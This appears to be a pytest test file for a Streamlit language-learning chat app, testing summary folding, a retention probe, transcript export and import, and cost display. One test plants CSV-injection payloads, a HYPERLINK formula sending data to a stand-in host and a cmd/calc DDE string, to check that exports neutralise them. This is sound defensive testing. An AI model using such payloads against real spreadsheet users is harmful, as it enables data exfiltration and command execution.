"""The page's teaching tools through AppTest: summary audit, prefold, retention probe, export/import, costs, token counting.

Each test asserts on what the memory holds and what the backend was sent: a
``ScriptedBackend`` records every request, and the export test talks to a
local Responses server through the real SDK.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.testing.v1 import AppTest

from benchmarks.harness.servers import ResponsesServer
from memora.app.page import state as keys
from memora.app.page.i18n import t
from memora.classroom.transcript.format import MAX_TRANSCRIPT_BYTES, dumps_transcript
from memora.memory import ShortTermMemory
from memora.memory.core import last_reply
from memora.teaching.prices import cost_summary, format_usd
from memora.teaching.probe import bundled_scenarios
from memora.teaching.story import story
from memora.text.messages import Message
from memora.text.prompts import SUMMARY_PREAMBLE
from tests.support.app import ledger_cards, new_app, send
from tests.support.fakes import ScriptedBackend

pytestmark = pytest.mark.usefixtures("no_secrets")

B1 = "My English level is B1 and I want to practise travel English."


@pytest.fixture
def downloads(monkeypatch) -> dict:
    """The data callables of the page's download buttons, by file name, as Streamlit registers them."""
    captured: dict = {}
    original = MediaFileManager.add_deferred

    def spy(self, data_callable, mimetype, coordinates, file_name=None, **options):
        captured[file_name] = data_callable
        return original(self, data_callable, mimetype, coordinates, file_name=file_name, **options)

    monkeypatch.setattr(MediaFileManager, "add_deferred", spy)
    return captured


def expander(at: AppTest, label: str):
    matches = [e for e in at.expander if e.label == label]
    assert matches, f"no expander {label!r} in {[e.label for e in at.expander]}"
    return matches[0]


def tab(block, label: str):
    matches = [x for x in block.tabs if x.label == label]
    assert matches, f"no tab {label!r} in {[x.label for x in block.tabs]}"
    return matches[0]


def button(at: AppTest, label: str):
    return next(b for b in at.button if b.label == label)


def scripted_summaries(*texts: str):
    queue = list(texts)
    return lambda request: queue.pop(0)


# -- summary audit ---------------------------------------------------------------


def test_a_language_switch_keeps_every_panel_that_remembers_being_open() -> None:
    """``PANELS_OPEN`` names every key that holds an expander's open state, so the switch carries each one over."""
    page = Path(keys.__file__).parent
    used = {name for module in page.glob("*.py") for name in re.findall(r"keys\.(\w+_OPEN)\b", module.read_text())}
    assert {getattr(keys, name) for name in used - {"PANELS_OPEN"}} == set(keys.PANELS_OPEN)


def test_summary_panel_audits_each_version_folded_messages_tokens_and_word_diff():
    backend = ScriptedBackend(summary_text=scripted_summaries("Level B1, goal travel.", "Level B2, goal travel. Name Mina."))
    memory = ShortTermMemory(backend, max_recent_turns=1)
    at = new_app(memory)
    for text in (B1, "Actually I'm B2. See [my site](http://x.test) <b>now</b>", "My name is Mina."):
        send(at, text)
    assert [v.folded for v in memory.conversation.versions] == [(0, 2), (2, 4)]

    at.session_state[keys.SUMMARY_PANEL_OPEN] = True  # drawn only while open
    at.run()
    panel = expander(at, "Conversation summary")
    labels = [c.value for c in panel.caption if c.value.startswith("Version")]
    second, first = memory.conversation.versions[1], memory.conversation.versions[0]
    assert labels == [
        f"Version 2, after reply 3, for turn 4: folded messages 3–4 (2 messages), {second.tokens} tokens",
        f"Version 1, after reply 2, for turn 3: folded messages 1–2 (2 messages), {first.tokens} tokens",
    ]
    assert second.tokens == [r.total_tokens for r in memory.ledger if r.kind == "summary"][1]

    changes = tab(panel, "Changes")
    diff = changes.markdown[0].value
    assert "~~B1,~~" in diff and "**B2,**" in diff and "**Name Mina\\.**" in diff
    assert changes.caption[0].value == "3 words added and 1 removed, against version 1."
    first_changes = [x for x in panel.tabs if x.label == "Changes"][1]
    assert first_changes.caption[0].value == "The first version: all 4 words are new."

    folded = tab(panel, "Folded messages").markdown[0].value.splitlines()
    # The user's Markdown and HTML arrive escaped: no link, no tag.
    assert folded[0] == "- **3** · user: Actually I'm B2\\. See \\[my site\\]\\(http\\://x\\.test\\) \\<b\\>now\\</b\\>"
    assert folded[1] == "- **4** · assistant: reply 2"
    assert tab(panel, "Full text").text[0].value == "Level B2, goal travel. Name Mina."

    at.radio(key=keys.LANG).set_value("zh-TW").run()
    panel = expander(at, "對話摘要")  # still open: the switch renamed it, and Streamlit would have closed a renamed expander
    assert [x.label for x in panel.tabs][:3] == ["變更", "摺疊的訊息", "全文"]
    assert panel.caption[1].value.startswith("第 2 版，第 3 則回覆之後，為第 4 輪：摺疊了第 3–4 則訊息（2 則）")
    assert tab(panel, "變更").caption[0].value == "相較第 1 版，新增 3 個字詞、刪除 1 個。"


# -- the summary off the critical path -------------------------------------------


def test_after_a_reply_the_page_prefolds_and_the_next_turn_sends_no_summary_request(backend):
    memory = ShortTermMemory(backend, max_recent_turns=1)
    at = new_app(memory)
    send(at, B1)
    assert backend.summaries == [], "nothing is due after the first reply"
    send(at, "Second question.")

    # Right after the second reply, the first pair was folded, before any next message.
    assert len(backend.summaries) == 1 and len(backend.replies) == 2
    assert backend.summaries[0].new_messages == (Message("user", B1), Message("assistant", "reply 1"))
    assert memory.summarized_message_count == 2 and memory.conversation.versions[0].turn == 2

    send(at, "Third question.")
    # The ledger's order shows it: turn 3's reply had no summary request before it.
    assert [(r.turn, r.kind) for r in memory.ledger] == [(1, "reply"), (2, "reply"), (2, "summary"), (3, "reply"), (3, "summary")]
    assert backend.replies[2].messages[0] == Message("developer", SUMMARY_PREAMBLE + memory.conversation.versions[0].text)
    turn_3 = last_reply(memory)
    assert turn_3.newly_summarized == 0 and turn_3.summary_tokens == 0
    assert backend.summaries[1].new_messages[0] == Message("user", "Second question.")
    assert not at.status, "the status is gone once the summary is updated"


def test_a_failed_prefold_changes_nothing_warns_and_the_next_turn_folds_instead(backend):
    memory = ShortTermMemory(backend, max_recent_turns=1)
    at = new_app(memory)
    send(at, B1)
    backend.fail_next("summary")
    send(at, "Second question.")

    assert len(backend.summaries) == 1, "the prefold was tried"
    assert memory.conversation.versions == () and memory.summarized_message_count == 0
    assert [m.content for m in memory.history] == [B1, "reply 1", "Second question.", "reply 2"]
    assert [r.kind for r in memory.ledger] == ["reply", "reply"]
    status = at.sidebar.status[0]
    assert status.label == "The summary could not be updated now" and status.state == "error"
    assert status.warning[0].value == (
        "The model request failed: scripted failure Nothing changed: your next message folds these messages itself before its reply."
    )

    at.run()  # any click: the failed fold is not retried on every rerun
    assert len(backend.summaries) == 1

    send(at, "Third question.")
    assert len(backend.summaries) == 3, "turn 3's prepare folded pair 1, then the prefold folded pair 2"
    assert backend.summaries[1].new_messages[0] == Message("user", B1)
    assert [(r.turn, r.kind) for r in memory.ledger][2:] == [(3, "summary"), (3, "reply"), (3, "summary")]
    assert last_reply(memory).newly_summarized == 2


# -- retention probe ---------------------------------------------------------------


def test_probe_runs_in_a_fresh_memory_on_the_session_backend_and_shows_the_fact_table(backend):
    memory = ShortTermMemory(backend, model="gpt-5-mini")
    at = new_app(memory)
    send(at, B1)
    history, ledger, sent = list(memory.history), list(memory.ledger), len(backend.replies)
    scenario = next(s for s in bundled_scenarios() if s.id == "correction-and-open-question")

    at.selectbox(key=keys.PROBE_SCENARIO_INPUT).select(scenario.id).run()
    button(at, "Run the probe").click().run()
    assert not at.exception

    assert at.session_state[keys.MEMORY] is memory
    assert memory.history == history and memory.ledger == ledger, "the user's conversation is untouched"
    probe_requests = backend.replies[sent:]
    assert probe_requests[0].messages == (Message("user", scenario.plant[0]),)
    assert probe_requests[-1].messages[-1] == Message("user", scenario.final_question)
    assert probe_requests[-1].messages[0].role == "developer", "the planted turns reached the final request as a summary"
    report = at.session_state[keys.PROBE_RESULT]
    assert report.scenario_id == scenario.id and report.folded and not report.offline

    tools = expander(at, "Teaching tools")
    table = tools.table[0].value
    assert table.index.name == "Fact" and list(table.columns) == ["Kind", "Summary", "Answer"]
    assert list(table.index) == [f.description for f in scenario.facts]
    assert list(table["Summary"]) == [r.summary.status for r in report.facts]
    kept = sum(r.summary.status == "kept" for r in report.facts), sum(r.answer.status == "kept" for r in report.facts)
    # Counts of facts, never a bare share; the header names the model that answered.
    assert {m.label: m.value for m in tools.metric} == {
        "Facts kept in the summary": f"{kept[0]} of {len(report.facts)}",
        "Facts in the model's answer": f"{kept[1]} of {len(report.facts)}",
    }
    assert "model `gpt-5-mini`" in tools.markdown[0].value
    assert tools.get("progress")[0].proto.text == "Probe finished."
    assert not [i for i in tools.info if "offline engine's description" in i.value], "a model backend gets no offline note"

    at.radio(key=keys.LANG).set_value("zh-TW").run()
    table = expander(at, "教學工具").table[0].value
    assert table.index.name == "事實" and list(table.columns) == ["類型", "摘要", "回答"]
    statuses = {"kept": "保留", "mixed": "混合", "stale": "過時", "missing": "遺失"}
    assert list(table["摘要"]) == [statuses[r.summary.status] for r in report.facts]
    assert "更正" in list(table["類型"]) and "程度從 B1 更正為 B2" in list(table.index)


def test_probe_offline_says_it_checks_what_would_have_been_sent_and_names_no_model():
    at = new_app()
    button(at, "Run the probe").click().run()
    assert not at.exception
    report = at.session_state[keys.PROBE_RESULT]
    assert report.offline and report.scenario_id == "article-b1-travel"
    tools = expander(at, "Teaching tools")
    assert any("the probe checks what would have been sent" in i.value for i in tools.info)
    header = tools.markdown[0].value
    assert header.startswith("The article's check") and "model" not in header.replace("language model", "")
    figures = {m.label: m.value for m in tools.metric}
    assert figures == {"Facts kept in the summary": "2 of 2", "Facts in what would have been sent": "2 of 2"}, "counts, no bare 100%"
    table = tools.table[0].value
    assert table.index.name == "Fact" and list(table.columns) == ["Kind", "Summary", "Would be sent"]
    assert at.session_state[keys.MEMORY].history == []

    at.radio(key=keys.LANG).set_value("zh-TW").run()
    button(at, "執行測試").click().run()
    report = at.session_state[keys.PROBE_RESULT]
    assert report.answer.startswith("**離線模式，不是語言模型。**") and "B1" in report.answer, "offline, it speaks the page's language"
    tools = expander(at, "教學工具")
    assert {m.label: m.value for m in tools.metric} == {"摘要中保留的事實": "2 / 2", "原本會送出的內容中的事實": "2 / 2"}
    assert tools.markdown[0].value.startswith("文章的驗收：B1 程度與旅遊英文：")


def test_a_failed_probe_says_why_and_leaves_the_conversation_alone(backend):
    memory = ShortTermMemory(backend)
    at = new_app(memory)
    send(at, B1)
    backend.fail_next("reply")
    button(at, "Run the probe").click().run()
    assert not at.exception
    assert [m.content for m in memory.history] == [B1, "reply 1"]
    assert expander(at, "Teaching tools").error[0].value == "The probe could not finish: The model request failed: scripted failure"


# -- export and import ----------------------------------------------------------------


def test_export_never_holds_the_key_and_api_token_counting_reaches_the_server(downloads):
    key = "sk-export-secret-0123456789"
    with ResponsesServer() as server:
        at = new_app(OPENAI_API_KEY=key, OPENAI_BASE_URL=server.url, MEMORA_TOKEN_COUNTING="api")
        memory: ShortTermMemory = at.session_state[keys.MEMORY]
        assert memory.server.source() == "OpenAI responses.input_tokens.count"
        send(at, B1)
        send(at, "How do I ask for directions?")
        exported = downloads["memora-conversation.json"]()
        paths = server.paths()

    assert "/v1/responses/input_tokens" in paths, "MEMORA_TOKEN_COUNTING=api counts on the server"
    assert isinstance(exported, bytes)
    assert key.encode() not in exported and b"sk-" not in exported
    assert server.url.encode() not in exported and b"127.0.0.1" not in exported
    data = json.loads(exported)
    assert [m["content"] for m in data["history"]] == [B1, server.reply_text, "How do I ask for directions?", server.reply_text]
    assert data["settings"]["offline"] is False and data["settings"]["model"] == "gpt-5-mini"
    assert len(data["ledger"]) == len(memory.ledger)

    # Switching to the offline engine drops the API count with its backend, which would keep calling the server.
    at.selectbox(key=keys.BACKEND_INPUT).select("offline").run()
    assert at.session_state[keys.MEMORY].server.source() is None


def test_the_upload_box_shows_the_limit_the_import_enforces():
    at = new_app()
    uploader = at.file_uploader(key=keys.IMPORT_INPUT)
    assert uploader.proto.max_upload_size_mb * 1024 * 1024 == MAX_TRANSCRIPT_BYTES, "the box says 2 MB (MiB), as the docs do"


def test_import_starts_a_new_memory_that_keeps_chatting_from_the_file(downloads):
    source_backend = ScriptedBackend()
    source = ShortTermMemory(source_backend, max_recent_turns=1, max_input_tokens=1500)
    at = new_app(source)
    for text in (B1, "Second question.", "Third question."):
        send(at, text)
    exported = downloads["memora-conversation.json"]()

    backend = ScriptedBackend()
    current = ShortTermMemory(backend)
    at = new_app(current)
    send(at, "A conversation about something else.")
    at.file_uploader(key=keys.IMPORT_INPUT).set_value(("lesson.json", exported, "application/json")).run()
    button(at, "Continue from this file").click().run()
    assert not at.exception

    imported: ShortTermMemory = at.session_state[keys.MEMORY]
    assert imported is not current and imported.server.backend is backend
    assert imported.history == source.history and imported.conversation.versions == source.conversation.versions
    assert imported.ledger == source.ledger and story(imported) == story(source)
    assert (imported.max_input_tokens, imported.max_recent_turns) == (1500, 1)
    assert at.number_input(key=keys.BUDGET_INPUT).value == 1500
    assert at.success[-1].value == "Imported lesson\\.json: 6 messages and 2 summary versions. Your next message continues from there."
    assert [m.content for m in current.history] == ["A conversation about something else.", "reply 1"], "the old memory is left as it was"

    send(at, "Fourth question.")
    request = backend.replies[-1]
    assert request.messages[0] == Message("developer", SUMMARY_PREAMBLE + source.summary)
    assert [m.content for m in request.messages[1:]] == ["Third question.", "reply 3", "Fourth question."]
    assert imported.history[-2:] == [Message("user", "Fourth question."), Message("assistant", "reply 2")]


@pytest.mark.parametrize(
    ("content", "code", "path"),
    [
        (b"{not json", "not_json", "the whole file"),
        (None, "pairs_out_of_order", "history[0].role"),
    ],
)
def test_an_invalid_file_shows_the_translated_error_and_changes_nothing(backend, content, code, path):
    memory = ShortTermMemory(backend)
    at = new_app(memory)
    send(at, B1)
    if content is None:
        data = json.loads(dumps_transcript(memory))
        data["history"][0]["role"], data["history"][1]["role"] = "assistant", "user"
        content = json.dumps(data).encode()
    history, ledger = list(memory.history), list(memory.ledger)

    at.file_uploader(key=keys.IMPORT_INPUT).set_value(("bad.json", content, "application/json")).run()
    button(at, "Continue from this file").click().run()

    assert at.session_state[keys.MEMORY] is memory and memory.history == history and memory.ledger == ledger
    error = expander(at, "Teaching tools").error[0].value
    reason = t("en", f"transcript.code.{code}")
    assert error == f"bad\\.json was not imported: {reason} (code `{code}`, at `{path}`). Your current conversation is unchanged."
    at.radio(key=keys.LANG).set_value("zh-TW").run()
    error = expander(at, "教學工具").error[0].value
    assert error.startswith("bad\\.json 沒有匯入：" + t("zh-TW", f"transcript.code.{code}")) and f"`{code}`" in error


# -- costs -------------------------------------------------------------------------------


def open_usage(at: AppTest):
    at.session_state[keys.USAGE_PANEL_OPEN] = True
    at.run()
    return expander(at, "Token usage")


def test_a_priced_model_shows_money_and_the_saving_against_full_history(backend):
    memory = ShortTermMemory(backend, model="gpt-5-mini", max_recent_turns=1)
    at = new_app(memory)
    for text in (B1, "Second question.", "Third question."):
        send(at, text)
    usage = open_usage(at)

    summary = cost_summary(memory.ledger)
    assert summary.spent_usd and summary.spent_usd > 0
    assert {m.label: m.value for m in usage.metric} == {
        "Spent": format_usd(summary.spent_usd),
        "Full history would cost": format_usd(summary.full_history_usd),
        "Saved against full history": format_usd(summary.saved_usd),
    }
    cards = ledger_cards(usage)
    assert len(cards) == len(memory.ledger)
    assert all({"Input $", "Output $", "Cost $", "Full history $"} <= set(card) for card in cards)
    assert sum(float(card["Cost $"]) for card in cards) == pytest.approx(summary.spent_usd, abs=1e-6 * len(cards))  # each to 6 places
    assert any("read 2026-12-02" in c.value and "gpt-5-mini $0.25 / $0.025 / $2" in c.value for c in usage.caption)


def test_the_ledger_csv_of_an_imported_file_holds_no_cell_a_spreadsheet_would_run(downloads):
    """Issue 28, item 6: an imported ``=HYPERLINK(...)`` model name was written as a live formula."""
    source = ShortTermMemory(ScriptedBackend(), max_recent_turns=1)
    for text in (B1, "Second question.", "Third question.", "Fourth question."):
        with source.turn(text) as turn:
            turn.run()
    data = json.loads(dumps_transcript(source))
    hostile = ['=HYPERLINK("http://evil.test/?"&A1,"Your grade")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
    assert len(data["ledger"]) >= len(hostile)
    for row, text in zip(data["ledger"], hostile, strict=False):
        row["model"] = text
    data["ledger"][0]["source"] = "=1+1"
    at = new_app(ShortTermMemory(ScriptedBackend()))
    at.file_uploader(key=keys.IMPORT_INPUT).set_value(("lesson.json", json.dumps(data).encode(), "application/json")).run()
    button(at, "Continue from this file").click().run()
    assert not at.exception
    open_usage(at)

    rows = list(csv.DictReader(io.StringIO(downloads["memora-ledger.csv"](), newline="")))
    assert [row["model"] for row in rows[: len(hostile)]] == ["'" + text for text in hostile]
    assert rows[0]["source"] == "'=1+1"
    assert [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    ledger = source.ledger
    assert [int(row["total_tokens"]) for row in rows] == [r.total_tokens for r in ledger], "numbers stay numbers"
    assert [float(row["latency_s"]) for row in rows] == [r.latency_s for r in ledger]
    assert [row["kind"] for row in rows] == [r.kind for r in ledger]


def test_offline_and_unknown_models_show_tokens_only(backend):
    at = new_app()
    send(at, B1)
    usage = open_usage(at)
    assert not usage.metric
    assert "Cost $" not in ledger_cards(usage)[0]
    assert [card["Model"] for card in ledger_cards(usage)] == ["offline engine"]
    assert [card["Kind"] for card in ledger_cards(usage)] == ["reply"]
    assert any(c.value == "The offline engine is not a model and nobody bills it: tokens only." for c in usage.caption)

    at = new_app(ShortTermMemory(backend, model="my-local-model"))
    send(at, B1)
    usage = open_usage(at)
    assert not usage.metric and "Cost $" not in ledger_cards(usage)[0]
    assert any(c.value.startswith("Tokens only for my-local-model") for c in usage.caption)


def test_every_probe_status_and_kind_and_every_transcript_error_code_has_labels_in_both_languages():
    from typing import get_args

    import memora.classroom.transcript.format
    from memora.teaching.probe import FactKind, Status

    codes = memora.classroom.transcript.format.__doc__.split("Error codes:")[1].replace("\n", " ").strip().rstrip(".").split(", ")
    assert "pairs_out_of_order" in codes and len(codes) > 20
    for lang in ("en", "zh-TW"):
        for status in get_args(Status):
            assert t(lang, f"probe.status.{status}")
        for kind in get_args(FactKind):
            assert t(lang, f"probe.kind.{kind}")
        for code in codes:
            assert t(lang, f"transcript.code.{code}")
